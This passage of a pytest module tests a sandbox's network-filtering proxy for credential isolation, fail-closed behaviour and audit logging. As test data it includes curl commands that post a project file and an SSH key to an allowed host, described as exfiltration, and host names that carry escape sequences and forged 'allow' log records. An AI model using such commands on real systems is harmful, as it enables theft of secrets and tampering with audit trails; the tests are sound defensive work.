    for key, origin in w.origins.items():
        seen, _ = origin.since(marks[key])
        assert [s.path for s in seen] == (["/control30"] if key == "http" else []), key
    # The daemon's own port, from the host, is no SOCKS server either.
    with socket.create_connection(("127.0.0.1", w.daemon_port() or 0), 3) as s:
        s.settimeout(3)
        s.sendall(b"\x05\x01\x00")
        try:
            reply = s.recv(64)
        except OSError:
            reply = b""
    assert not reply.startswith((b"\x05\x00", b"\x05\x02")), reply


# --- 31 ---------------------------------------------------------------------------------------------

CREDENTIAL_MARK = base64.b64encode(b"stockade:").decode()[:12]  # "c3RvY2thZGU6": how every session credential begins


def _tree(root: int) -> set[int]:
    """`root` and every process below it."""
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", encoding="ascii", errors="replace") as handle:
                    parents[int(entry)] = int(handle.read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
    found, grew = {root}, True
    while grew:
        more = {pid for pid, parent in parents.items() if parent in found} - found
        found |= more
        grew = bool(more)
    return found


def _processes_with(pids: set[int], needles: tuple[bytes, ...]) -> list[tuple[int, str]]:
    found = []
    for entry in sorted(pids):
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry}/{part}", "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            if any(n in data for n in needles):
                found.append((int(entry), part))
    return found


INSIDE_31 = r"""
import base64, os
needles = (base64.b64encode(b"stockade:")[:12], b"Proxy-" + b"Authorization")
found = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    for part in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        if any(n in data for n in needles):
            found.append(f"{pid}/{part}")
proxies = [v for k, v in os.environ.items() if "proxy" in k.lower() and "@" in v]
print("inside_credentials=" + ",".join(found + proxies))
"""


def test_case_31_the_daemon_is_no_open_proxy_and_credentials_stay_outside(warm: NetWorld) -> None:
    w = warm
    http, https = w.origins["http"], w.origins["https"]
    mark = http.mark()
    port = w.daemon_port()
    # Host side, no credential, and a made-up one: 407, nothing reaches the origins.
    for proxy in (f"http://127.0.0.1:{port}", f"http://stockade:made-up@127.0.0.1:{port}"):
        plain = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-x", proxy, f"http://allowed.test:{http.port}/open31"],
                               capture_output=True, text=True, timeout=30)  # fmt: skip
        tls = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_connect}", "-x", proxy, "--cacert", str(w.cert), f"https://allowed.test:{https.port}/"],
                             capture_output=True, text=True, timeout=30)  # fmt: skip
        assert (plain.stdout, tls.stdout) == ("407", "407"), (proxy, plain, tls)
    # Session A holds allowed.test only, B holds a.wild.test only; A waits while B runs.
    a_policy = w.policy("c31a", allow=["allowed.test"], deny=[])
    b_policy = w.policy("c31b", allow=["a.wild.test"], deny=[])
    go = w.box.project / "go31"
    ready = w.box.project / "ready31"
    a = w.popen(
        f"""
"$PY" -c {q(INSIDE_31)}
curl -s -o /dev/null -w "a_before=%{{http_code}}\\n" -x "$PX" "http://allowed.test:$HP/a31"
curl -s -o /dev/null -w "a_forged=%{{http_code}}\\n" -x "http://stockade:forged@127.0.0.1:3128" "http://allowed.test:$HP/forged31"
: > {q(str(ready))}
i=0; while [ ! -e {q(str(go))} ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
curl -s -o /dev/null -w "a_other=%{{http_code}}\\n" -x "$PX" "http://a.wild.test:$WP/a31"
""",
        tag="c31a",
        policy=a_policy,
    )
    try:
        assert wait_for(ready.exists, 30), "session A did not get ready"
        # The run, its sandbox and the daemon: the credential is on no argv and in no environment.
        watched = _tree(a.pid) | {w.daemon_pid() or 0}
        assert len(watched) >= 4, watched
        assert _processes_with(watched, (CREDENTIAL_MARK.encode(), b"Proxy-Authorization")) == []
        b = w.run(
            """
curl -s -o /dev/null -w "b_own=%{http_code}\\n" -x "$PX" "http://a.wild.test:$WP/b31"
curl -s -o /dev/null -w "b_other=%{http_code}\\n" -x "$PX" "http://allowed.test:$HP/b31"
""",
            tag="c31b",
            policy=b_policy,
        )
        go.touch()
        out, err = a.communicate(timeout=60)
    finally:
        if a.poll() is None:
            a.kill()
            a.communicate()
    lines = out.splitlines()
    assert "inside_credentials=" in lines, out  # inside: no credential in any proxy variable, environment or argv
    assert "a_before=200" in lines and "a_other=403" in lines, (out, err)
    assert "a_forged=403" in lines, out  # a credential from inside is refused: the door alone says whose a connection is
    assert (one(b, "b_own"), one(b, "b_other")) == ("200", "403"), b
    assert [s.path for s in http.since(mark)[0]] == ["/a31"]
    forged = next(r for r in w.records("c31a", 3) if r["path"] == "/forged31")
    assert (forged["decision"], forged["rule"]) == ("deny", "a Proxy-Authorization header from inside the sandbox")
    sessions_a = {r["session"] for r in w.records("c31a")}
    sessions_b = {r["session"] for r in w.records("c31b", 2)}
    assert len(sessions_a) == 1 and len(sessions_b) == 1 and sessions_a != sessions_b


# --- 32 ---------------------------------------------------------------------------------------------


def test_case_32_an_empty_allow_list_allows_nothing(warm: NetWorld) -> None:
    w = warm
    mark = w.origins["http"].mark()
    policy = w.policy("c32empty", allow=[], deny=[], mode="allowlist")
    result = w.run(
        """
curl -s -o /dev/null -w "plain=%{http_code}\\n" -x "$PX" "http://allowed.test:$HP/empty32"
curl -s -o /dev/null -w "tls=%{http_connect}\\n" -x "$PX" --cacert "$CA" "https://allowed.test:$SP/empty32"
""",
        tag="c32empty",
        policy=policy,
    )
    assert (one(result, "plain"), one(result, "tls")) == ("403", "403"), result
    assert w.origins["http"].since(mark) == ([], 0)
    assert [r["rule"] for r in w.records("c32empty", 2)] == ["no allow rule matches"] * 2
    control = w.run('curl -s -o /dev/null -w "control=%{http_code}\\n" -x "$PX" "http://allowed.test:$HP/control32"', tag="c32ctl")
    assert one(control, "control") == "200", control


def test_case_32_no_network_table_means_no_network_and_no_daemon(world: NetWorld) -> None:
    w = world
    box = w.fresh_box()
    result = w.run(
        """
echo "proxy_var=${HTTP_PROXY:-unset}"
t via_port curl -sS -m3 -x http://127.0.0.1:3128 "http://allowed.test:$HP/"
t direct curl -sS -m3 --noproxy '*' "http://127.0.0.1:$HP/"
""",
        tag="c32off",
        box=box,
        policy=w.policy("c32off", network=False, box=box),
    )
    assert result.returncode == 0, result.stderr
    assert one(result, "proxy_var") == "unset"
    assert_failed_fast(timings(result), ["via_port", "direct"])
    assert w.daemon_info(box) is None and not (runtime_dir(box) / "proxy.sock").exists()  # never started
    control = w.run('curl -s -o /dev/null -w "control=%{http_code}\\n" "http://allowed.test:$HP/control32off"', tag="c32on", box=box)
    assert one(control, "control") == "200", control  # the same HOME with a network rule: a daemon, and the way out


def test_case_32_a_daemon_killed_mid_run_fails_closed(world: NetWorld) -> None:
    w = world
    box = w.fresh_box()
    http, https = w.origins["http"], w.origins["https"]
    ready, go = box.project / "ready32", box.project / "go32"
    run = w.popen(
        f"""
curl -s -o /dev/null -w "before=%{{http_code}}\\n" -x "$PX" "http://allowed.test:$HP/before32"
: > {q(str(ready))}
i=0; while [ ! -e {q(str(go))} ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
t after curl -sS -m5 -x "$PX" "http://allowed.test:$HP/after32"
t after_tls curl -sS -m5 --cacert "$CA" "https://allowed.test:$SP/after32"
t after_env curl -sS -m5 "http://allowed.test:$HP/after32"
t direct curl -sS -m3 --noproxy '*' "http://allowed.test:$HP/after32"
t direct_ip curl -sS -m3 --noproxy '*' "http://127.0.0.1:$HP/after32"
""",
        tag="c32kill",
        box=box,
    )
    try:
        assert wait_for(ready.exists, 30), "the run did not get ready"
        pid = w.daemon_pid(box)
        assert pid is not None and pid_alive(pid)
        os.kill(pid, signal.SIGKILL)
        assert wait_for(lambda: not pid_alive(pid), 10)
        go.touch()
        out, err = run.communicate(timeout=60)
    finally:
        if run.poll() is None:
            run.kill()
            run.communicate()
    result = subprocess.CompletedProcess(run.args, run.returncode, out, err)
    assert one(result, "before") == "200", result
    assert_failed_fast(timings(result), ["after", "after_tls", "after_env", "direct", "direct_ip"])
    assert all(s.path != "/after32" for s in http.requests + https.requests)
    assert [r["path"] for r in w.records("c32kill", 1, box=box)] == ["/before32"]  # flushed before the daemon died
    assert not pid_alive(pid) and w.daemon_pid(box) == pid  # nothing restarted it behind the run's back


# --- 33 (residual) ------------------------------------------------------------------------------------


def test_case_33_exfiltration_to_an_allowed_host_is_allowed_and_audited(warm: NetWorld) -> None:
    """Posting to an allowed host is allowed by design (ESCAPES 33): pinned down with what the audit shows."""
    w = warm
    readme = w.box.project / "README"
    readme.write_bytes(b"project readme CANARY-OK\n" * 200)
    size, sha = readme.stat().st_size, hashlib.sha256(readme.read_bytes()).hexdigest()
    ssh_sha = hashlib.sha256(b"CANARY-SSH\n").hexdigest()
    marks = {k: w.origins[k].mark() for k in ("http", "https")}
    result = w.run(
        """
curl -sS -x "$PX" --cacert "$CA" --data-binary @"$P/README" "https://allowed.test:$SP/upload33"; echo " tls_rc=$?"
curl -sS -x "$PX" --data-binary @"$P/README" "http://allowed.test:$HP/upload33"; echo " plain_rc=$?"
curl -sS -x "$PX" --cacert "$CA" "https://allowed.test:$SP/dns-query?name=x.exfil.test" >/dev/null; echo "doh_tls=$?"
curl -sS -x "$PX" "http://allowed.test:$HP/dns-query?name=x.exfil.test" >/dev/null; echo "doh_plain=$?"
curl -sS -x "$PX" --data-binary @"$H/.ssh/id_test" "http://allowed.test:$HP/key33"; echo "key=$?"
""",
        tag="c33",
    )
    assert f"{sha} tls_rc=0" in result.stdout and f"{sha} plain_rc=0" in result.stdout, result
    assert one(result, "doh_tls") == "0" and one(result, "doh_plain") == "0"
    tls_seen, _ = w.origins["https"].since(marks["https"])
    plain_seen, _ = w.origins["http"].since(marks["http"])
    assert [s.body_sha for s in tls_seen if s.method == "POST"] == [sha]
    assert [s.body_sha for s in plain_seen if s.method == "POST" and s.path != "/key33"] == [sha]
    assert all(s.body_sha != ssh_sha for s in tls_seen + plain_seen)
    assert [s.body_bytes for s in plain_seen if s.path == "/key33"] == [0]  # curl could not read the key: an empty post
    found = w.records("c33", 4)
    tls = [r for r in found if r["scheme"] == "tls"]
    plain = [r for r in found if r["scheme"] == "http"]
    # Plain HTTP: method, path and bytes up are all there.
    upload = next(r for r in plain if r["method"] == "POST")
    assert (upload["decision"], upload["path"]) == ("allow", "/upload33") and upload["bytes_up"] >= size
    assert any(r["path"] == "/dns-query?name=x.exfil.test" for r in plain)
    # TLS: only the tunnel is visible, but its bytes up still show the upload's size.
    assert all((r["method"], r["path"], r["sni"]) == ("CONNECT", None, "allowed.test") for r in tls)
    assert max(r["bytes_up"] for r in tls) >= size


# --- 34 ---------------------------------------------------------------------------------------------

INJECTION_34 = (
    RAW_CLIENT
    + r"""
hp = sys.argv[1]
hosts = ["a\x1b]52;c;aGk=\x07.test", 'a\n{"decision":"allow"}.test', 'a%0a{"decision":"allow"}.test', "[red]x[/red].test"]
for i, host in enumerate(hosts):
    print(f"connect{i}=" + raw(f"CONNECT {host}:443 HTTP/1.1\r\nHost: x\r\n\r\n".encode("latin-1")).split(b"\r\n")[0].decode(errors="replace"))
    print(f"get{i}=" + raw(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")).split(b"\r\n")[0].decode(errors="replace"))
print("host_header=" + raw(f"GET http://allowed.test:{hp}/h34 HTTP/1.1\r\nHost: a\x1b[31m{{\"decision\":\"allow\"}}.test\r\nConnection: close\r\n\r\n".encode("latin-1")).split(b"\r\n")[0].decode(errors="replace"))
"""
)


def test_case_34_audit_log_injection_through_names(warm: NetWorld) -> None:
    w = warm
    result = w.run(
        f"""
"$PY" -c {q(INJECTION_34)} "$HP"
curl -s -g -o /dev/null -w "markup=%{{http_code}}\\n" -x "$PX" "http://allowed.test:$HP/[red]x[/red]/[link=file:///etc]y[/link]"
curl -s -o /dev/null -w "escaped=%{{http_code}}\\n" -x "$PX" "http://allowed.test:$HP/%1b%5b31mred%07"
""",
        tag="c34",
    )
    for i in range(4):
        for kind in ("connect", "get"):
            assert one(result, f"{kind}{i}").startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (kind, i, result.stdout)
    assert one(result, "host_header").startswith(("HTTP/1.1 400", "HTTP/1.1 403")), result.stdout
    assert (one(result, "markup"), one(result, "escaped")) == ("200", "200"), result
    path = w.audit_path("c34")
    assert wait_for(lambda: path.exists() and len(path.read_text().splitlines()) >= 2)
    text = path.read_text()
    lines = text.splitlines()
    assert all(0x20 <= ord(c) < 0x7F for line in lines for c in line), "a raw control or non-ASCII byte in the audit log"
    parsed = [json.loads(line) for line in lines]  # one well-formed record per line
    assert [r["event"] for r in parsed if "event" in r] in ([], ["session-end"])  # nothing injected passes for stockade's own lines
    parsed = [r for r in parsed if "event" not in r]
    assert all(r["decision"] == "deny" for r in parsed if r.get("path") not in ("/[red]x[/red]/[link=file:///etc]y[/link]", "/%1b%5b31mred%07"))
    assert (
        sum(r["decision"] == "allow" and r["phase"] == "end" for r in parsed) == 2
    )  # only the two controls (each also has its start record); no injected "allow"
    shown = w.stockade("audit", "--log", str(path))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "[red]x[/red]" in shown.stdout and "[link=file:///etc]" in shown.stdout  # printed literally, not as Rich markup
    as_json = w.stockade("audit", "--log", str(path), "--json")
    assert "\x1b" not in as_json.stdout and all(json.loads(line) for line in as_json.stdout.splitlines())


# --- Done-when of the network filter ------------------------------------------------------------------


def test_done_when_pip_download_works_and_a_denied_host_gets_its_reason(warm: NetWorld) -> None:
    """`pypi`-style policy: pip downloads from an allowed index; curl to denied.test fails with the 403 reason;
    `stockade audit` shows both decisions."""
    w = warm
    check = w.run('"$PY" -m pip --version; echo "pip=$?"', tag="pipcheck", policy=w.policy("pipcheck", network=False))
    if one(check, "pip") != "0":
        pytest.skip(f"Debian's python3 has no pip here: {check.stdout.strip()} {check.stderr.strip()}")
    default_log = w.box.home / ".local" / "state" / "stockade" / "audit.jsonl"
    before = len(default_log.read_text().splitlines()) if default_log.exists() else 0
    pypi = w.origins["pypi"]
    mark = pypi.mark()
    policy = w.policy("pip", allow=["pypi.test"], deny=[], extends="pypi", audit=False)
    (w.box.home / ".cache" / "pip").mkdir(parents=True, exist_ok=True)  # the profile's writable pip cache
    result = w.run(
        """
export PIP_CONFIG_FILE=/dev/null  # not the machine's find-links or local indexes: only the network
unset PYTHONPATH  # the test runner's (for stockade itself) would hand Debian's python another ssl module
"$PY" -m pip download --disable-pip-version-check --no-input --index-url "https://pypi.test:$PP/simple/" --cert "$CA" \\
    --no-deps -d ./dl stockade-probe-pkg; echo "pip=$?"
echo probe > ~/.cache/pip/probe
curl -sS --cacert "$CA" "https://denied.test:$DSP/"; echo "tls_denied=$?"
curl -sS "http://denied.test:$DP/"; echo "plain_denied=$?"
""",
        tag="pip",
        policy=policy,
        timeout=180,
    )
    assert one(result, "pip") == "0", (result.stdout, result.stderr)
    # pip's cache is writable through a layer of the project's (bwrap/parts/layers.py), in a networked run
    # too: what was written there is in the layer, and the host's cache has none of it
    layered = [p.name for p in (w.box.home / ".cache" / "stockade" / "layers").rglob("*") if p.is_file() and "/upper/" in str(p)]
    assert "probe" in layered and not [p for p in (w.box.home / ".cache" / "pip").rglob("*") if p.is_file()], layered
    wheel = w.box.project / "dl" / w.wheel_name
    assert wheel.exists() and hashlib.sha256(wheel.read_bytes()).hexdigest() == w.wheel_sha
    seen, _ = pypi.since(mark)
    assert "/simple/stockade-probe-pkg/" in [s.path for s in seen] and f"/files/{w.wheel_name}" in [s.path for s in seen]
    # The denied host: curl fails, with the reason in the 403 (plain HTTP shows it; the summary names the fix).
    assert one(result, "tls_denied") == "56" and "CONNECT tunnel failed, response 403" in result.stderr, result.stderr
    assert one(result, "plain_denied") == "0"
    assert f"stockade: the sandbox's policy blocked denied.test:{w.origins['denied'].port} (no allow rule matches)" in result.stdout
    assert f"network: denied denied.test:{w.origins['denied_tls'].port}; to allow it, run: stockade allow denied.test --policy " in result.stderr
    assert w.origins["denied"].since((0, 0)) == ([], 0) and w.origins["denied_tls"].since((0, 0)) == ([], 0)
    # `stockade audit` (the default log of this HOME) shows both decisions.
    shown = w.stockade("audit", "--json")
    assert shown.returncode == 0, shown.stderr
    mine = [json.loads(line) for line in shown.stdout.splitlines()][before:]
    assert {(r["host"], r["decision"]) for r in mine} >= {("pypi.test", "allow"), ("denied.test", "deny")}, mine
    table = w.stockade("audit")
    assert re.search(r"allow .*pypi\.test", table.stdout) and re.search(r"deny .*denied\.test", table.stdout), table.stdout


def test_done_when_64_mib_up_and_down_arrive_byte_identical(warm: NetWorld) -> None:
    w = warm
    upload = w.box.project / "blob64.bin"
    upload.write_bytes(w.blob)
    fast = (w.ping()["spliced"], w.ping()["bodies"])
    try:
        result = w.run(
            """
for scheme in http https; do
    if [ $scheme = http ]; then port=$HP; else port=$SP; fi
    curl -sS -x "$PX" --cacert "$CA" -o "$P/down-$scheme.bin" "$scheme://allowed.test:$port/blob"; echo "down_$scheme=$?"
    echo "up_$scheme=$(curl -sS -x "$PX" --cacert "$CA" --data-binary @"$P/blob64.bin" "$scheme://allowed.test:$port/upload64")"
done
""",
            tag="big",
            timeout=300,
        )
        for scheme in ("http", "https"):
            assert one(result, f"down_{scheme}") == "0", result
            down = w.box.project / f"down-{scheme}.bin"
            assert down.stat().st_size == BIG
            assert hashlib.sha256(down.read_bytes()).hexdigest() == w.blob_sha, scheme
            assert one(result, f"up_{scheme}") == w.blob_sha, scheme  # the origin hashed what it received
        found = w.records("big", 4)
        assert sum(r["bytes_down"] >= BIG for r in found) == 2 and sum(r["bytes_up"] >= BIG for r in found) == 2, found
        # Both downloads took the splice paths: the TLS tunnel whole, the plain-HTTP body after its head.
        assert (w.ping()["spliced"] - fast[0] >= 2, w.ping()["bodies"] - fast[1]) == (True, 1)
    finally:
        for name in ("blob64.bin", "down-http.bin", "down-https.bin"):
            (w.box.project / name).unlink(missing_ok=True)


KEEPALIVE = r"""
import http.client, statistics, sys, time
port = int(sys.argv[1])
conn = http.client.HTTPConnection("127.0.0.1", 3128)
samples = []
for i in range(30):
    start = time.perf_counter()
    conn.request("GET", f"http://allowed.test:{port}/keep{i}", headers={"Host": f"allowed.test:{port}"})
    response = conn.getresponse()
    response.read()
    samples.append(time.perf_counter() - start)
print("statuses=" + ",".join(sorted({str(response.status)})))
print("median_ms=%.2f" % (statistics.median(samples) * 1000))
"""


def test_keep_alive_requests_through_the_bridge_are_not_stalled(warm: NetWorld) -> None:
    """30 plain-HTTP requests on one connection through the sandbox's door and the daemon: each judged, none waiting on Nagle."""
    w = warm
    http = w.origins["http"]
    mark = http.mark()
    result = w.run(f'"$PY" -c {q(KEEPALIVE)} "$HP"', tag="keep")
    assert one(result, "statuses") == "200", result
    # Without TCP_NODELAY on the sandbox's side (asyncio sets it on the door's connections), every response
    # waited ~40 ms for a delayed ACK.
    assert float(one(result, "median_ms")) < 20, result.stdout
    seen, connections = http.since(mark)
    assert [s.path for s in seen] == [f"/keep{i}" for i in range(30)] and connections == 1
    found = w.records("keep", 30)
    assert len(found) == 30 and all(r["decision"] == "allow" for r in found)


# --- last: the whole module's resolver log ----------------------------------------------------------


def test_no_denied_name_was_ever_resolved(warm: NetWorld) -> None:
    """Across every run of this module (when run whole), the test resolver never saw a denied or look-alike name."""
    asked = {name.lower().rstrip(".") for name in warm.queried()}
    allowed = {
        "allowed.test",
        "a.wild.test",
        "pypi.test",
        "rebind.wild.test",
        "meta.wild.test",
        "priv.wild.test",
        "xn--bcher-kva.test",
        "bücher.test",
    }
    assert asked <= allowed, asked - allowed


def test_a_stored_plan_filters_the_network_the_same(warm: NetWorld) -> None:
    """A second run with unchanged inputs executes the stored plan (bwrap/plan/plan_cache.py), network rules
    included: the allowed host answers, the denied one is refused with its line, both are audited."""
    plans = warm.box.home / ".cache" / "stockade" / "plans"
    policy = warm.box.root / "policy-stored-plan.toml"
    policy.write_text(warm.policy("plan"))  # written once: a policy file rewritten before each run is a new input

    def run(path: str) -> subprocess.CompletedProcess[str]:
        script = f'curl -sS -o /dev/null -w "code=%{{http_code}}\\n" -x "$PX" "{path}"'
        return warm.box.run(warm.prelude() + script, options=["--policy", str(policy)], env=warm.env)

    first = run("http://allowed.test:$HP/plan1")
    assert "code=200" in first.stdout, first
    for _attempt in range(3):  # a host socket another test made or removed meanwhile makes the plan stale, by design
        stored = {path: path.stat().st_mtime_ns for path in plans.glob("*.plan")}
        assert stored, "a networked run stores its plan"
        second = run("http://denied.test:$DP/plan2")
        if {path: path.stat().st_mtime_ns for path in plans.glob("*.plan")} == stored:
            break
    assert {path: path.stat().st_mtime_ns for path in plans.glob("*.plan")} == stored, "the second run planned again"
    assert "code=403" in second.stdout and "network: denied denied.test" in second.stderr, second
    third = run("http://allowed.test:$HP/plan3")
    assert "code=200" in third.stdout, third
    text = json.dumps(warm.records("plan"))
    assert "plan2" in text and "plan3" in text, text[:2000]
